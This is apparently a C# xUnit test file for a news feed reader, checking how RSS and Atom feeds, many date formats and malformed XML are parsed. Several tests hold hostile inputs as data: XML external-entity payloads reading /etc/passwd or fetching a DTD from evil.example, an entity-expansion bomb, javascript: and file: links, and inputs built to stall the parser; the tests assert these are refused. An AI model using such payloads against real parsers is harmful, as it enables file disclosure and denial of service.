using System.Diagnostics;
using System.Globalization;
using NewsApi.Importing;
using NewsApi.Importing.Feeds;
using NewsApi.Model;

namespace NewsApi.Tests.Importing;

/// <summary>Feeds as the standards have them, as programs make them, and as somebody makes them who means harm.</summary>
public sealed class FeedReaderTests
{
    private static readonly TimeZoneInfo Shanghai = TimeZoneInfo.FindSystemTimeZoneById("Asia/Shanghai");
    private static readonly Uri Address = new("https://news.example/feeds/world.xml");
    private static readonly FeedReader Reader = new(PlainFragments.Read);

    private List<string> Said { get; } = [];

    [Fact]
    public void Rss_2_with_its_vocabularies_is_read_whole()
    {
        var story = Assert.Single(Read("""
            <?xml version="1.0" encoding="utf-8"?>
            <rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:media="http://search.yahoo.com/mrss/">
              <channel>
                <title>例子新聞</title><link>https://news.example/</link><language>zh-hant</language>
                <item>
                  <title>首輪會談 &lt;b&gt;俄烏&lt;/b&gt;評價大相徑庭 A&amp;amp;B</title>
                  <link>/world/1.html</link>
                  <guid isPermaLink="false">tag:1</guid>
                  <pubDate>Sat, 07 Jun 2025 10:30:15 +0800</pubDate>
                  <dc:creator>張三</dc:creator><dc:creator>李四</dc:creator>
                  <category>國際</category>
                  <description>只說大意。</description>
                  <content:encoded><![CDATA[<p>第一段說得長一些。</p><p>第二段。</p>]]></content:encoded>
                  <media:content url="https://news.example/a.jpg" type="image/jpeg"><media:description>會場</media:description></media:content>
                  <media:thumbnail url="https://news.example/a-small.jpg"/>
                  <enclosure url="https://news.example/a.mp3" length="1" type="audio/mpeg"/>
                </item>
              </channel>
            </rss>
            """));

        Assert.Equal("首輪會談 俄烏評價大相徑庭 A&B", story.Draft.Headline);
        Assert.Equal("只說大意。", story.Draft.Summary);
        Assert.Equal("zh-Hant", story.Draft.Language);
        Assert.Equal("2025-06-07T10:30:15+08:00", Printed(story));
        Assert.Equal(DatePrecision.Second, story.Draft.PublishedPrecision);
        Assert.Equal("例子新聞", story.Draft.SourceName);
        Assert.Equal("https://news.example/world/1.html", story.Draft.SourceUrl);
        Assert.Equal(["張三", "李四"], story.Draft.Authors);
        Assert.Equal([("國際", TagType.Topic)], story.Draft.Tags.Select(tag => (tag.Name, tag.Type)));
        Assert.Equal([(MediaType.Image, "會場"), (MediaType.Audio, null)], story.Draft.Media.Select(item => (item.Type, item.Caption)));
        Assert.Equal(["第一段說得長一些。", "第二段。"], Texts(story));
        Assert.Equal("guid:tag:1", story.Identity);
        Assert.Empty(story.Warnings);
        Assert.Empty(story.Guesses);
    }

    [Fact]
    public void Atom_is_read_with_its_kinds_of_text_and_its_bases()
    {
        var stories = Read("""
            <feed xmlns="http://www.w3.org/2005/Atom" xml:lang="zh-Hans" xml:base="https://news.example/a/">
              <title type="html">例子&lt;i&gt;新闻&lt;/i&gt;</title><id>urn:feed</id><updated>2025-06-07T00:00:00Z</updated>
              <author><name>编辑部</name></author>
              <entry>
                <title>使用 &lt;b&gt; 的方法</title><id>urn:1</id>
                <link rel="alternate" href="b/1.html"/><link rel="enclosure" type="video/mp4" href="v.mp4"/>
                <published>2025-06-07T10:30:00+08:00</published><updated>2025-06-08T00:00:00Z</updated>
                <summary>大意。</summary>
                <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>第一段<br/>又一行，说得长。</p></div></content>
              </entry>
              <entry xml:lang="zh-Hant">
                <title type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">第<b>二</b>篇</div></title><id>urn:2</id>
                <updated>2025-06-08T00:00:00Z</updated><author><name>王五</name></author>
                <content type="text">3 &lt; 4，正文。</content>
              </entry>
            </feed>
            """);

        Assert.Equal(["使用 <b> 的方法", "第二篇"], stories.Select(story => story.Draft.Headline));
        Assert.Equal(["zh-Hans", "zh-Hant"], stories.Select(story => story.Draft.Language));
        Assert.Equal("https://news.example/a/b/1.html", stories[0].Draft.SourceUrl);
        Assert.Equal("https://news.example/a/v.mp4", Assert.Single(stories[0].Draft.Media).Url);
        Assert.Equal(["第一段", "又一行，说得长。"], Texts(stories[0]));
        Assert.Equal(["3 < 4，正文。"], Texts(stories[1]));
        Assert.Equal([["编辑部"], ["王五"]], stories.Select(story => story.Draft.Authors));
        Assert.Equal("例子新闻", stories[0].Draft.SourceName);
        Assert.Equal("guid:urn:1", stories[0].Identity);
        Assert.Contains(stories[1].Guesses, guess => guess.What == "publishedAt" && guess.Why.Contains("updated", StringComparison.Ordinal));
    }

    [Fact]
    public void Rss_1_is_read()
    {
        var story = Assert.Single(Read("""
            <rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">
              <channel rdf:about="https://news.example/"><title>例子</title><link>https://news.example/</link></channel>
              <item rdf:about="https://news.example/1"><title>標題</title><link>https://news.example/1</link><description>正文。</description><dc:date>2025-06-07T10:30+08:00</dc:date></item>
            </rdf:RDF>
            """));

        Assert.Equal(("標題", "例子", "url:https://news.example/1"), (story.Draft.Headline, story.Draft.SourceName, story.Identity));
        Assert.Equal("2025-06-07T10:30:00+08:00", Printed(story));
        Assert.Equal(DatePrecision.Minute, story.Draft.PublishedPrecision);
    }

    [Fact]
    public void Rss_0_91_is_read_in_spite_of_its_document_type()
    {
        var story = Assert.Single(Read("""
            <?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">
            <rss version="0.91"><channel><title>例子</title><language>en</language><item><title>標題說的是中文</title><link>https://news.example/1</link></item></channel></rss>
            """));

        Assert.Equal("標題說的是中文", Assert.Single(Texts(story)));
        Assert.Equal("zh-Hant", story.Draft.Language);
        Assert.Null(story.Draft.PublishedAt);
    }

    [Fact]
    public void Atom_0_3_is_read()
    {
        var story = Assert.Single(Read("""
            <feed version="0.3" xmlns="http://purl.org/atom/ns#"><title>例子</title>
              <entry><title mode="escaped" type="text/html">A &amp;amp; B</title><link rel="alternate" href="https://news.example/1"/><id>urn:1</id>
              <issued>2025-06-07</issued><content type="text/html" mode="escaped">&lt;p&gt;正文。&lt;/p&gt;</content></entry></feed>
            """));

        Assert.Equal("A & B", story.Draft.Headline);
        Assert.Equal(["正文。"], Texts(story));
        Assert.Equal(DatePrecision.Day, story.Draft.PublishedPrecision);
    }

    [Theory]
    [InlineData("Sat, 7 Jun 2025 10:30 CST", "2025-06-07T10:30:00+08:00", "Minute")]
    [InlineData("Sat, 07 Jun 2025 10:30:15 GMT", "2025-06-07T10:30:15+00:00", "Second")]
    [InlineData("Sat, 07 Jun 2025 10:30:15 EST", "2025-06-07T10:30:15-05:00", "Second")]
    [InlineData("Sat, 07 Jun 2025 10:30:15 PDT", "2025-06-07T10:30:15-07:00", "Second")]
    [InlineData("Saturday, 07-Jun-25 10:30:15 UTC", "2025-06-07T10:30:15+00:00", "Second")]
    [InlineData("7 June 2025", "2025-06-07T00:00:00+08:00", "Day")]
    [InlineData("週六, 07 六月 2025 10:30:15 +0800", "2025-06-07T10:30:15+08:00", "Second")]
    [InlineData("Sat Jun 07 10:30:15 CST 2025", "2025-06-07T10:30:15+08:00", "Second")]
    [InlineData("June 7, 2025 10:30 PM", "2025-06-07T22:30:00+08:00", "Minute")]
    [InlineData("2025-06-07 10:30:00", "2025-06-07T10:30:00+08:00", "Second")]
    [InlineData("2025/6/7 10:30", "2025-06-07T10:30:00+08:00", "Minute")]
    [InlineData("2025-06-07T10:30:00.123456Z", "2025-06-07T10:30:00+00:00", "Second")]
    [InlineData("2025-06-07T10:30:00+0530", "2025-06-07T10:30:00+05:30", "Second")]
    [InlineData("2025-06-07 10:30:00 GMT+8", "2025-06-07T10:30:00+08:00", "Second")]
    [InlineData("2025-06", "2025-06-01T00:00:00+08:00", "Month")]
    [InlineData("2025年6月7日 10:30", "2025-06-07T10:30:00+08:00", "Minute")]
    [InlineData("2025年6月7日 下午3點05分", "2025-06-07T15:05:00+08:00", "Minute")]
    [InlineData("2025年6月7日", "2025-06-07T00:00:00+08:00", "Day")]
    public void Dates_are_read_however_they_are_printed(string printed, string expected, string precision)
    {
        var story = Assert.Single(Read(Rss($"<item><title>標題</title><pubDate>{printed}</pubDate></item>")));

        Assert.Equal(expected, Printed(story));
        Assert.Equal(precision, story.Draft.PublishedPrecision?.ToString());
        Assert.Empty(story.Warnings);
    }

    [Theory]
    [InlineData("Mon, 31 Jun 2025 10:30:00 GMT")]
    [InlineData("2025-13-01")]
    [InlineData("2025-06-07 25:30:00")]
    [InlineData("2025年2月30日")]
    [InlineData("yesterday")]
    [InlineData("Mon, 30 Nov -0001 00:00:00 +0000")]
    public void A_date_that_cannot_be_is_named_and_left_out(string printed)
    {
        var story = Assert.Single(Read(Rss($"<item><title>標題</title><pubDate>{printed}</pubDate></item>")));

        Assert.Null(story.Draft.PublishedAt);
        Assert.Null(story.Draft.PublishedPrecision);
        Assert.Contains(printed, Assert.Single(story.Warnings), StringComparison.Ordinal);
    }

    [Fact]
    public void A_zone_that_was_assumed_is_a_guess()
    {
        var story = Assert.Single(Read(Rss("<item><title>標題</title><pubDate>2025-06-07 10:30:00</pubDate></item>")));

        Assert.Contains(story.Guesses, guess => guess.What == "publishedAt" && guess.Why.Contains("Asia/Shanghai", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("entities of HTML", "<rss><channel><title>例</title><item><title>甲&nbsp;乙 &copy; 丙</title></item></channel></rss>", "甲 乙 © 丙")]
    [InlineData("a bare ampersand", "<rss><channel><title>例</title><item><title>甲 & 乙 AT&T</title></item></channel></rss>", "甲 & 乙 AT&T")]
    [InlineData("a prefix nobody declares", "<rss><channel><title>例</title><item><title>甲</title><dc:creator>張三</dc:creator><media:content url='https://a.example/a.jpg'/></item></channel></rss>", "甲")]
    [InlineData("control characters", "<rss><channel><title>例</title><item><title>甲\u0008\u001b乙&#0;</title></item></channel></rss>", "甲乙")]
    [InlineData("something before it", "Warning: mysql\n<br/>\n<?xml version='1.0'?><rss><channel><title>例</title><item><title>甲</title></item></channel></rss>", "甲")]
    [InlineData("something behind it", "<rss><channel><title>例</title><item><title>甲</title></item></channel></rss><script>1</script>\0", "甲")]
    [InlineData("markup nobody escaped", "<rss><channel><title>例</title><item><title>甲</title><description><p>一<br>二<img src=a.jpg></description></item></channel></rss>", "甲")]
    [InlineData("an end that is missing", "<rss><channel><title>例</title><item><title>甲<link>https://a.example/</link></item></channel></rss>", "甲https://a.example/")]
    [InlineData("no quotes", "<rss version=2.0><channel><title>例</title><item><title>甲</title></item></channel></rss>", "甲")]
    public void A_feed_that_is_no_xml_is_read_as_what_was_meant(string what, string xml, string headline)
    {
        var story = Assert.Single(Read(xml));

        Assert.Equal((what, headline), (what, story.Draft.Headline));
        Assert.Contains(Said, warning => warning.Contains("well-formed", StringComparison.Ordinal));
    }

    [Fact]
    public void Upper_case_and_a_wrong_encoding_label_change_nothing()
    {
        var story = Assert.Single(Read("<?xml version='1.0' encoding='utf-16'?><RSS><CHANNEL><TITLE>例</TITLE><ITEM><TITLE>甲</TITLE><PUBDATE>2025-06-07T10:30:00Z</PUBDATE></ITEM></CHANNEL></RSS>"));

        Assert.Equal(("甲", "例"), (story.Draft.Headline, story.Draft.SourceName));
        Assert.NotNull(story.Draft.PublishedAt);
    }

    [Fact]
    public void Of_a_feed_that_breaks_off_the_whole_items_are_read()
    {
        var stories = Read("<rss><channel><title>例</title><item><title>甲</title></item><item><title>乙</title></item><item><title>丙</title><description>半句");

        Assert.Equal(["甲", "乙"], stories.Select(story => story.Draft.Headline));
        Assert.All(stories, story => Assert.Empty(story.Warnings));
        Assert.Contains(Said, warning => warning.Contains("breaks off", StringComparison.Ordinal));
    }

    [Fact]
    public void A_description_without_full_text_is_the_text()
    {
        var story = Assert.Single(Read(Rss("<item><title>標題</title><description>&lt;p&gt;正文。&lt;/p&gt;</description></item>")));

        Assert.Equal(["正文。"], Texts(story));
        Assert.Equal("正文。", story.Draft.Summary);
        Assert.Contains(story.Guesses, guess => guess.What == "summary");
    }

    [Fact]
    public void Without_a_title_the_text_begins_the_story()
    {
        var story = Assert.Single(Read(Rss("<item><description>沒有標題的短訊。</description></item>")));

        Assert.StartsWith("沒有標題的短訊", story.Draft.Headline, StringComparison.Ordinal);
        Assert.Contains(story.Guesses, guess => guess.What == "headline");
    }

    [Fact]
    public void An_item_that_says_nothing_is_left_out_with_a_warning()
    {
        Assert.Single(Read(Rss("<item><title>甲</title></item><item><link>https://news.example/2</link></item>")));

        Assert.Contains("1 item says nothing", Assert.Single(Said), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("javascript:alert(1)")]
    [InlineData("file:///etc/passwd")]
    [InlineData("https://user:secret@news.example/")]
    [InlineData("data:text/html,x")]
    public void Addresses_that_are_none_of_the_web_are_left_out(string link)
    {
        var story = Assert.Single(Read(Rss($"<item><title>甲</title><link>{link}</link><enclosure url=\"{link}\" type=\"image/png\"/></item>")));

        Assert.Null(story.Draft.SourceUrl);
        Assert.Null(story.Identity);
        Assert.Empty(story.Draft.Media);
    }

    [Theory]
    [InlineData("desk@news.example (張三)", "張三")]
    [InlineData("張三 &lt;desk@news.example&gt;", "張三")]
    [InlineData("張三", "張三")]
    [InlineData("desk@news.example", null)]
    public void Authors_are_names_and_no_addresses(string author, string? name)
    {
        var story = Assert.Single(Read(Rss($"<item><title>甲</title><author>{author}</author></item>")));

        Assert.Equal(name, story.Draft.Authors.SingleOrDefault());
    }

    [Fact]
    public void What_is_too_long_is_cut_to_what_can_be_stored()
    {
        var story = Assert.Single(Read(Rss($"<item><title>{new string('甲', 600)}</title><description>{new string('乙', 50_000)}</description></item>")));

        Assert.Equal(500, story.Draft.Headline.Length);
        Assert.Equal(50_000, Texts(story).Sum(text => text.Length));
        Assert.All(Texts(story), text => Assert.True(text.Length <= 20_000));
        Assert.Contains(story.Warnings, warning => warning.Contains("headline", StringComparison.Ordinal));
    }

    [Fact]
    public void A_feed_without_items_has_no_stories() => Assert.Empty(Read(Rss("")));

    [Theory]
    [InlineData("")]
    [InlineData("   ")]
    [InlineData("\0\0\0\0")]
    [InlineData("只是文字。")]
    [InlineData("{\"items\":[]}")]
    [InlineData("<html><body><rss>no</rss></body></html>")]
    [InlineData("<note>x</note>")]
    [InlineData("<")]
    [InlineData("<!--")]
    public void What_is_no_feed_is_refused(string text)
    {
        var refusal = Assert.Throws<UnreadableDocumentException>(() => Read(text));

        Assert.StartsWith("The document is no RSS or Atom feed", refusal.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void A_feed_within_something_else_is_refused_with_what_that_is() =>
        Assert.Equal("The document is no RSS or Atom feed but a page of HTML; a feed within one is not looked for.", Assert.Throws<UnreadableDocumentException>(() => Read("<html><body><rss><channel/></rss></body></html>")).Message);

    [Theory]
    [InlineData("<!DOCTYPE rss [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><rss><channel><item><title>&x;</title></item></channel></rss>")]
    [InlineData("<?xml version='1.0'?><!-- <a> --><!DOCTYPE rss [<!ENTITY % x SYSTEM \"https://evil.example/x.dtd\"> %x;]><rss/>")]
    [InlineData("<!DOCTYPE l [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;\">]><rss><channel><item><title>&c;</title></item></channel></rss>")]
    public void Entities_of_its_own_make_a_feed_unreadable(string xml) =>
        Assert.Contains("entities", Assert.Throws<UnreadableDocumentException>(() => Read(xml)).Message, StringComparison.Ordinal);

    [Theory]
    [InlineData("deep", "<rss><channel><item>", "<b>", "", 300_000)]
    [InlineData("deep and no XML", "<rss><channel><item>&nbsp;", "<b>", "", 300_000)]
    [InlineData("values without end", "<rss><channel><item><title>甲</title></item>&", "<b a='\n", "", 300_000)]
    [InlineData("comments without end", "<rss><channel><item><title>甲</title></item>&", "<!--", "", 300_000)]
    [InlineData("brackets", "<rss><channel><item><title>甲</title></item>&", "<", "", 3_000_000)]
    [InlineData("ends of nothing", "<rss><channel><item><title>甲</title></item>&", "</x>", "", 500_000)]
    [InlineData("ampersands", "<rss><channel><item><title>甲", "&amp", "</title></item></channel></rss>", 500_000)]
    [InlineData("brackets in a title", "<rss><channel><item><title>甲<![CDATA[", "<a ", "]]></title></item></channel></rss>", 500_000)]
    [InlineData("many attributes", "<rss ", "a='1' ", "><channel><item><title>甲</title></item></channel></rss>", 300_000)]
    [InlineData("brackets before the beginning", "<", "<", "<rss/>", 3_000_000)]
    public void A_hostile_feed_takes_no_longer_than_a_long_one(string what, string start, string middle, string end, int times)
    {
        var xml = start + string.Concat(Enumerable.Repeat(middle, times)) + end;
        var watch = Stopwatch.StartNew();

        try
        {
            Read(xml);
        }
        catch (UnreadableDocumentException)
        {
            // Refusing it is as good as reading it.
        }

        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(10), $"{what}: {watch.Elapsed}");
    }

    [Fact]
    public void A_feed_of_more_items_than_one_import_takes_is_refused_whole()
    {
        static string Items(int count) => Rss(string.Concat(Enumerable.Range(1, count).Select(number => $"<item><title>第{number}篇</title><description>正文。</description></item>")));

        Assert.Equal(10_000, Read(Items(10_000)).Count);
        Assert.Empty(Said);
        var refused = Assert.Throws<UnreadableDocumentException>(() => Read(Items(10_001)));
        Assert.Contains("10001", refused.Message, StringComparison.Ordinal);
        Assert.Contains("10000", refused.Message, StringComparison.Ordinal);
    }

    private IReadOnlyList<ReadStory> Read(string xml) => [.. Reader.Read(xml, Address, Shanghai, Said).Stories.Select(Stories.Fit)];

    private static string Rss(string items) => $"<rss version=\"2.0\"><channel><title>例子</title><language>zh-Hant</language>{items}</channel></rss>";

    private static string? Printed(ReadStory story) => story.Draft.PublishedAt?.ToString("yyyy-MM-ddTHH:mm:sszzz", CultureInfo.InvariantCulture);

    private static List<string> Texts(ReadStory story) => [.. story.Draft.Sections.SelectMany(section => section.Blocks).SelectMany(block => block.Texts())];
}
